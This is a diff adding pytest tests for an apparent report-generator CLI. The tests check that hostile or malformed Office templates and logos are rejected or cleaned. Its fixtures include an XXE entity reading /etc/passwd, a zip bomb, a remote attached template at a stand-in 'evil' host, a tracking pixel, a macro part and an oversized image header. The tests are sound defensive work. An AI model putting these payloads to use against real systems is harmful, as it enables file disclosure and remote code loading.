@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import re
 import shutil
 from pathlib import Path
 
@@ -166,3 +167,168 @@ def test_an_account_file_over_5_mb_is_refused_with_a_clear_message(tmp_path, run
     path.write_text("version: 1\n" + "# padding\n" * 600_000)
     result = runner.invoke(main, ["validate", str(path)])
     assert result.exit_code == 1 and "huge.yaml: the file is larger than 5 MB" in result.output
+
+
+# -- 10, 14, 15. team templates and logos -----------------------------------------------------------
+
+
+def _office(kind: str) -> bytes:
+    buf = io.BytesIO()
+    if kind == "pptx":
+        from pptx import Presentation
+
+        Presentation().save(buf)
+    else:
+        from docx import Document
+
+        Document().save(buf)
+    return buf.getvalue()
+
+
+def _edit(data: bytes, changes: dict[str, bytes | None]) -> bytes:
+    """Return the zip ``data`` with parts replaced, added, or (None) removed; a callable edits a part."""
+    import zipfile
+
+    src = zipfile.ZipFile(io.BytesIO(data))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for name in src.namelist():
+            change = changes.get(name, src.read(name))
+            if callable(change):
+                change = change(src.read(name))
+            if change is not None:
+                dst.writestr(name, change)
+        for name, blob in changes.items():
+            if name not in src.namelist() and blob is not None:
+                dst.writestr(name, blob)
+    return out.getvalue()
+
+
+def _workspace(spec_dir, key: str, name: str, data: bytes):
+    (spec_dir / name).write_bytes(data)
+    (spec_dir / "qbrgen.yaml").write_text(f"version: 1\ntemplates:\n  {key}: {name}\n")
+    return spec_dir
+
+
+def _validate(runner, folder):
+    result = runner.invoke(main, ["validate", str(folder)])
+    assert "Traceback" not in result.output and "internal error" not in result.output, result.output
+    return result
+
+
+BAD_TEMPLATES = {
+    "not-a-zip": ("deck", "brand.pptx", lambda: b"this is text, not a presentation", "not a valid Office file"),
+    "zip-bomb-ratio": ("deck", "brand.pptx", lambda: _edit(_office("pptx"), {"ppt/media/pad.bin": bytes(8 << 20)}),
+                       "compressed more than 100 to 1"),
+    "xxe": ("proposal_docx", "brand.docx", lambda: _edit(_office("docx"), {"word/document.xml": lambda b: b.replace(
+        b"?>", b'?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1)}), "declares a DTD"),
+    "undefined-entity": ("proposal_docx", "brand.docx", lambda: _edit(_office("docx"), {
+        "word/document.xml": lambda b: b.replace(b"<w:body>", b"<w:body>&undefined;", 1)}), "not well-formed XML"),
+    "slide-size-0": ("deck", "brand.pptx", lambda: _edit(_office("pptx"), {
+        "ppt/presentation.xml": lambda b: re.sub(rb'<p:sldSz cx="\d+" cy="\d+"', b'<p:sldSz cx="0" cy="0"', b)}),
+        "outside what Office allows"),
+    "slide-size-huge": ("deck", "brand.pptx", lambda: _edit(_office("pptx"), {
+        "ppt/presentation.xml": lambda b: re.sub(rb'<p:sldSz cx="\d+"', b'<p:sldSz cx="99999999999"', b)}),
+        "outside what Office allows"),
+    "no-content-types": ("deck", "brand.pptx", lambda: _edit(_office("pptx"), {"[Content_Types].xml": None}),
+                         "not an Office file"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(BAD_TEMPLATES), ids=str)
+def test_unusable_template_is_a_clear_error_in_validate_and_build(case, spec_dir, runner, tmp_path):
+    key, name, make, message = BAD_TEMPLATES[case]
+    _workspace(spec_dir, key, name, make())
+    result = _validate(runner, spec_dir)
+    assert result.exit_code == 1 and f"templates.{key}: {name}: " in result.output and message in result.output
+    fmt = "pptx" if key == "deck" else "docx"
+    built = runner.invoke(main, ["build", str(spec_dir), "-o", str(tmp_path / "out"), "-j", "1", "--format", fmt])
+    assert built.exit_code == 1 and message in built.output and "internal error" not in built.output
+    assert not list((tmp_path / "out").rglob("*.pptx")) + list((tmp_path / "out").rglob("*.docx"))
+
+
+EXTERNAL = (b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+            b'image" Target="https://tracker.example.invalid/pixel.png" TargetMode="External"/></Relationships>')
+
+
+def test_external_links_and_macros_are_removed_from_a_deck_template(spec_dir, runner, tmp_path):
+    import zipfile
+
+    base = _office("pptx")
+    layout_rels = "ppt/slideLayouts/_rels/slideLayout1.xml.rels"
+    data = _edit(base, {
+        layout_rels: lambda b: b.replace(b"</Relationships>", EXTERNAL),
+        "ppt/vbaProject.bin": b"macro bytes",
+        "[Content_Types].xml": lambda b: b.replace(b"</Types>", b'<Default Extension="bin" ContentType='
+                                                   b'"application/vnd.ms-office.vbaProject"/></Types>'),
+    })
+    _workspace(spec_dir, "deck", "brand.pptx", data)
+    result = _validate(runner, spec_dir)
+    assert result.exit_code == 0, result.output
+    assert "templates.deck: brand.pptx: removed links to outside files" in result.output
+    assert "brand.pptx: removed its macro project" in result.output
+    built = runner.invoke(main, ["build", str(spec_dir), "-o", str(tmp_path / "out"), "-j", "1", "--format", "pptx",
+                                 "--as-of", "2026-11-23"])
+    assert built.exit_code == 0, built.output
+    (deck,) = (tmp_path / "out").rglob("*.pptx")
+    package = zipfile.ZipFile(deck)
+    assert not [n for n in package.namelist() if "vba" in n.lower()]
+    for part in package.namelist():
+        blob = package.read(part)
+        assert b'TargetMode="External"' not in blob and b"tracker.example.invalid" not in blob, part
+        assert b"vbaProject" not in blob and b"macroEnabled" not in blob, part
+
+
+def test_remote_attached_template_is_removed_from_a_docx_template(spec_dir, runner, tmp_path):
+    import zipfile
+
+    rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
+            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
+            b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example.'
+            b'invalid/t.dotm" TargetMode="External"/></Relationships>')
+    data = _edit(_office("docx"), {
+        "word/_rels/settings.xml.rels": rels,
+        "word/settings.xml": lambda b: b.replace(b"<w:defaultTabStop", b'<w:attachedTemplate r:id="rId1"/>'
+                                                 b"<w:defaultTabStop", 1),
+    })
+    assert b"attachedTemplate" in zipfile.ZipFile(io.BytesIO(data)).read("word/settings.xml")
+    _workspace(spec_dir, "proposal_docx", "brand.docx", data)
+    result = _validate(runner, spec_dir)
+    assert result.exit_code == 0 and "removed the link to an attached template" in result.output, result.output
+    built = runner.invoke(main, ["build", str(spec_dir), "-o", str(tmp_path / "out"), "-j", "1", "--format", "docx",
+                                 "--as-of", "2026-11-23"])
+    assert built.exit_code == 0, built.output
+    (doc,) = (tmp_path / "out").rglob("*.docx")
+    package = zipfile.ZipFile(doc)
+    for part in package.namelist():
+        blob = package.read(part)
+        assert b"attachedTemplate" not in blob and b"evil.example.invalid" not in blob, part
+
+
+def _png_header(w: int, h: int) -> bytes:
+    import struct
+    import zlib
+
+    ihdr = struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)
+    chunk = b"IHDR" + ihdr
+    return (b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(ihdr)) + chunk + struct.pack(">I", zlib.crc32(chunk))
+            + b"\x00\x00\x00\x00IEND\xaeB`\x82")
+
+
+BAD_LOGOS = {
+    "svg": ("logo.png", b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>', "SVG"),
+    "text": ("logo.png", b"just some text\n", "not an image qbrgen can use"),
+    "empty": ("logo.png", b"", "is empty"),
+    "huge-header": ("logo.png", _png_header(100000, 100000), "100000 x 100000 pixels"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(BAD_LOGOS), ids=str)
+def test_unusable_vendor_logo_is_reported_by_validate_and_build(case, spec_dir, runner, tmp_path):
+    name, data, message = BAD_LOGOS[case]
+    (spec_dir / name).write_bytes(data)
+    (spec_dir / "qbrgen.yaml").write_text(f"version: 1\nvendor:\n  name: Acme\n  logo: {name}\n")
+    result = _validate(runner, spec_dir)
+    assert result.exit_code == 1 and "vendor.logo: " in result.output and message in result.output, result.output
+    built = runner.invoke(main, ["build", str(spec_dir), "-o", str(tmp_path / "out"), "-j", "1", "--format", "pdf"])
+    assert built.exit_code == 1 and message in built.output and "internal error" not in built.output
